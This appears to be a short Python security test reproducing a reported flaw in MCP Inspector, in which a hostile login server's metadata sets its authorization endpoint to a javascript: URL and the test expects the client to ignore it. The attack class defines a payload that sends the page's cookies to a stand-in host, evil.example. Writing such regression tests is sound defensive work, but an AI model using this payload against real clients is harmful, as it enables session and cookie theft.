"""The page to log in at is a script, which runs in the page that a client shows its links in.

Source: CVE-2025-58444 of MCP Inspector, by a redirect to `javascript:`.
Seen: such metadata count as none: the person is shown a page of the server itself, or nothing.
"""

from login import ORIGIN, LoginServer, says, shown


class Attack(LoginServer):
    metadata = says(authorization_endpoint="javascript:fetch('https://evil.example/'+document.cookie)//")


SEEN = shown(f"{ORIGIN}/authorize?")
